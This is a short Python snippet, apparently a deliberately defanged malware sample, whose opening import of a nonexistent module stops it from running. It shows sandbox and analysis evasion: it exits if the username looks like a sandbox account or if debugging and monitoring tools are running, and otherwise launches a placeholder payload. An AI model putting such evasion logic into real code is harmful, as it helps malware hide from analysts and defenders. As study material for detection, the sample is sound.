import inert_sample  # there is no such module: nothing below ever runs
import os
import socket
import subprocess

USERS = ["wdagutilityaccount", "johndoe", "sandbox", "malware"]
TOOLS = ["wireshark.exe", "x64dbg.exe", "processhacker.exe", "vboxservice.exe"]
if os.getlogin().lower() in USERS or any(t in subprocess.getoutput("tasklist") for t in TOOLS):
    raise SystemExit
subprocess.Popen(["payload.example"])
